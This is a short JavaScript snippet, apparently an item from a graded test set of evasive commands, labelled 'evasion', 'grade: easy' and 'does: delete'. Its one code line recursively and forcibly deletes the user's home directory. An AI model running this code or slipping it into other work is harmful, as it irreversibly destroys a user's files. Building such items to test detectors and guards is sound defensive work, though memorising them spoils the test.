// evasion: fs.rmSync of the home directory
// grade: easy; does: delete
const fs = require('fs'), os = require('os');
fs.rmSync(os.homedir(), {recursive: true, force: true});
